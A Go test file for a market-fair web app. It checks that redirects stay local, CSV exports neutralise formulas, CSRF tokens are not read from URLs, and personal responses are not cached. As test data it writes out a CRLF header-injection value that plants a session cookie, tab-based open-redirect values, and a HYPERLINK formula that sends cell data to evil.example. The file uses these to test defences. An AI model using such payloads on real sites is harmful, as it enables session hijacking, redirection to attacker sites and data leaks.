package app

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"miaohui/app/account"
	"miaohui/catalog"
)

// Input at the edge: redirect targets, text fields, the CSRF token's
// sources, and caching of personal answers.

// formHeader marks a body as a posted HTML form.
var formHeader = map[string]string{"Content-Type": "application/x-www-form-urlencoded", "Accept": "text/html"}

// wantNoPlantedCookie fails if the answer sets the session cookie to X.
func wantNoPlantedCookie(t testing.TB, res response) {
	t.Helper()
	for _, c := range res.Cookies() {
		if c.Name == account.SessionCookie && c.Value == "X" {
			t.Fatalf("the answer plants %s=X: %v", account.SessionCookie, res.Header.Values("Set-Cookie"))
		}
	}
	if loc := res.Header.Get("Location"); strings.ContainsAny(loc, "\r\n") {
		t.Fatalf("Location %q carries a line break", loc)
	}
}

// wantLocation checks a redirect's target.
func wantLocation(t testing.TB, res response, want string) {
	t.Helper()
	wantStatus(t, res, http.StatusSeeOther)
	if got := res.Header.Get("Location"); got != want {
		t.Fatalf("Location %q, want %q", got, want)
	}
}

func TestRedirectTargetsStayLocal(t *testing.T) {
	t.Run("lang next with a line break plants no cookie", func(t *testing.T) {
		e := newTestEnv(t)
		res := e.do(req{Method: "GET", Path: "/lang/en?next=/%0d%0aSet-Cookie:%20fair_session=X;%20Path=/"})
		wantNoPlantedCookie(t, res)
		if res.StatusCode == http.StatusSeeOther {
			wantLocation(t, res, "/")
		} else {
			wantStatus(t, res, http.StatusUnprocessableEntity)
		}
	})
	t.Run("lang next with a tab stays on the site", func(t *testing.T) {
		e := newTestEnv(t)
		res := e.do(req{Method: "GET", Path: "/lang/en?next=/%09/evil.example/x"})
		if res.StatusCode == http.StatusSeeOther {
			wantLocation(t, res, "/")
		} else {
			wantStatus(t, res, http.StatusUnprocessableEntity)
		}
	})
	t.Run("lang next local is kept", func(t *testing.T) {
		e := newTestEnv(t)
		wantLocation(t, e.do(req{Method: "GET", Path: "/lang/en?next=/fairs%3Fkind%3Dtemple"}), "/fairs?kind=temple")
	})
	login := func(e *testEnv, email, next string) response {
		body := url.Values{"email": {email}, "password": {testPassword}, "next": {next}}.Encode()
		return e.do(req{Method: "POST", Path: "/login", Body: body, Header: formHeader})
	}
	t.Run("login next with a line break plants no cookie", func(t *testing.T) {
		e := newTestEnv(t)
		u := e.register("crlf-next@example.com", catalog.RoleShopper)
		res := login(e, u.Email, "/\r\nSet-Cookie: fair_session=X; Path=/")
		wantNoPlantedCookie(t, res)
		wantLocation(t, res, "/account")
	})
	t.Run("login next with a tab stays on the site", func(t *testing.T) {
		e := newTestEnv(t)
		u := e.register("tab-next@example.com", catalog.RoleShopper)
		wantLocation(t, login(e, u.Email, "/\t/evil.example/x"), "/account")
	})
	t.Run("login next local is kept", func(t *testing.T) {
		e := newTestEnv(t)
		u := e.register("local-next@example.com", catalog.RoleShopper)
		wantLocation(t, login(e, u.Email, "/orders"), "/orders")
	})
	t.Run("back with a tab leads to sign in and home", func(t *testing.T) {
		e := newTestEnv(t)
		body := url.Values{"back": {"/\t/evil.example/x"}}.Encode()
		res := e.do(req{Method: "POST", Path: "/slots/any/book", Body: body, Header: formHeader})
		wantLocation(t, res, "/login?next=%2F")
	})
}

func TestTotalsCSVNeutralisesFormulas(t *testing.T) {
	e := newTestEnv(t)
	w := newWorld(t, e, "csv-formula")
	merchant := e.register("formula-csv-formula@example.com", catalog.RoleMerchant)
	name := `=HYPERLINK("http://evil.example/?"&A1,"open")`
	stall := e.openStall(t, w.org, merchant.Token, w.slug, name)["id"].(string)

	res := e.do(req{Method: "GET", Path: "/api/v1/fairs/" + w.slug + "/totals.csv", Token: w.org})
	wantStatus(t, res, http.StatusOK)
	rows, err := csv.NewReader(bytes.NewReader(res.Body)).ReadAll()
	if err != nil {
		t.Fatalf("totals.csv: %v\n%s", err, res.Body)
	}
	found := false
	for _, r := range rows[1:] {
		if r[0] == stall {
			found = true
			if r[1] != "'"+name {
				t.Errorf("stall name cell %q, want %q", r[1], "'"+name)
			}
			if r[2] != "0" || r[3] != "0" {
				t.Errorf("stall numbers %q, %q: want 0 and 0 as plain numbers", r[2], r[3])
			}
		}
	}
	if !found {
		t.Fatalf("no row for stall %s:\n%s", stall, res.Body)
	}
}

func TestCSRFTokenNotReadFromTheURL(t *testing.T) {
	t.Run("API logout with the token in the query is refused", func(t *testing.T) {
		e := newTestEnv(t)
		u := e.register("csrf-query@example.com", catalog.RoleShopper)
		res := e.do(req{Method: "POST", Path: "/api/v1/auth/logout?_csrf=" + url.QueryEscape(u.CSRF), Cookies: []*http.Cookie{u.Cookie}})
		wantProblem(t, res, http.StatusForbidden, "forbidden")
		// The session still works.
		wantStatus(t, e.do(req{Method: "GET", Path: "/api/v1/me", Cookies: []*http.Cookie{u.Cookie}}), http.StatusOK)
	})
	t.Run("a page form with the token in the query is refused", func(t *testing.T) {
		e := newTestEnv(t)
		u := e.register("csrf-form-query@example.com", catalog.RoleShopper)
		res := e.do(req{Method: "POST", Path: "/logout?_csrf=" + url.QueryEscape(u.CSRF), Body: "", Header: formHeader, Cookies: []*http.Cookie{u.Cookie}})
		wantStatus(t, res, http.StatusForbidden)
		wantStatus(t, e.do(req{Method: "GET", Path: "/api/v1/me", Cookies: []*http.Cookie{u.Cookie}}), http.StatusOK)
	})
	t.Run("flash purchase with the token in the query is refused", func(t *testing.T) {
		e := newTestEnv(t)
		u := e.register("csrf-flash-query@example.com", catalog.RoleShopper)
		res := e.do(req{Method: "POST", Path: "/api/v1/flash-sales/none/purchase?_csrf=" + url.QueryEscape(u.CSRF), Body: map[string]any{"quantity": 1}, Cookies: []*http.Cookie{u.Cookie}})
		wantProblem(t, res, http.StatusForbidden, "forbidden")
	})
	t.Run("the header is accepted", func(t *testing.T) {
		e := newTestEnv(t)
		u := e.register("csrf-header@example.com", catalog.RoleShopper)
		res := e.do(req{Method: "POST", Path: "/api/v1/auth/logout", Header: map[string]string{"X-CSRF-Token": u.CSRF}, Cookies: []*http.Cookie{u.Cookie}})
		wantStatus(t, res, http.StatusNoContent)
	})
	t.Run("a form body field is accepted", func(t *testing.T) {
		e := newTestEnv(t)
		u := e.register("csrf-body@example.com", catalog.RoleShopper)
		res := e.do(req{Method: "POST", Path: "/logout", Body: "_csrf=" + url.QueryEscape(u.CSRF), Header: formHeader, Cookies: []*http.Cookie{u.Cookie}})
		wantLocation(t, res, "/")
		wantStatus(t, e.do(req{Method: "GET", Path: "/api/v1/me", Cookies: []*http.Cookie{u.Cookie}}), http.StatusUnauthorized)
	})
	t.Run("a multipart body field is accepted", func(t *testing.T) {
		e := newTestEnv(t)
		u := e.register("csrf-multipart@example.com", catalog.RoleShopper)
		body := "--b\r\nContent-Disposition: form-data; name=\"_csrf\"\r\n\r\n" + u.CSRF + "\r\n--b--\r\n"
		res := e.do(req{Method: "POST", Path: "/logout", Body: body, Header: map[string]string{"Content-Type": "multipart/form-data; boundary=b", "Accept": "text/html"}, Cookies: []*http.Cookie{u.Cookie}})
		wantLocation(t, res, "/")
	})
}

func TestPersonalAnswersAreNotStored(t *testing.T) {
	wantNoStore := func(t *testing.T, res response) {
		t.Helper()
		if got := res.Header.Get("Cache-Control"); got != "no-store" {
			t.Fatalf("%s %s: Cache-Control %q, want no-store", res.Request.Method, res.Request.URL, got)
		}
	}
	for _, path := range []string{"/api/v1/me", "/api/v1/me/orders", "/api/v1/me/notifications", "/api/v1/cart", "/api/v1/orders/none"} {
		t.Run("bearer "+path, func(t *testing.T) {
			e := newTestEnv(t)
			u := e.register("nostore@example.com", catalog.RoleShopper)
			wantNoStore(t, e.do(req{Method: "GET", Path: path, Token: u.Token}))
		})
	}
	t.Run("cookie /api/v1/me", func(t *testing.T) {
		e := newTestEnv(t)
		u := e.register("nostore-cookie@example.com", catalog.RoleShopper)
		wantNoStore(t, e.do(req{Method: "GET", Path: "/api/v1/me", Cookies: []*http.Cookie{u.Cookie}}))
	})
	t.Run("signed-in public list", func(t *testing.T) {
		e := newTestEnv(t)
		u := e.register("nostore-list@example.com", catalog.RoleShopper)
		wantNoStore(t, e.do(req{Method: "GET", Path: "/api/v1/fairs", Token: u.Token}))
	})
	t.Run("anonymous checkout", func(t *testing.T) {
		e := newTestEnv(t)
		wantNoStore(t, e.do(req{Method: "POST", Path: "/api/v1/checkout", Body: map[string]any{}}))
	})
	t.Run("sign-in answer with its token", func(t *testing.T) {
		e := newTestEnv(t)
		u := e.register("nostore-login@example.com", catalog.RoleShopper)
		res := e.do(req{Method: "POST", Path: "/api/v1/auth/login", Body: map[string]any{"email": u.Email, "password": testPassword}})
		wantStatus(t, res, http.StatusOK)
		wantNoStore(t, res)
	})
	t.Run("anonymous public list stays cacheable", func(t *testing.T) {
		e := newTestEnv(t)
		res := e.do(req{Method: "GET", Path: "/api/v1/fairs"})
		wantStatus(t, res, http.StatusOK)
		if got := res.Header.Get("Cache-Control"); got == "no-store" {
			t.Fatalf("Cache-Control %q on an anonymous public list", got)
		}
	})
}
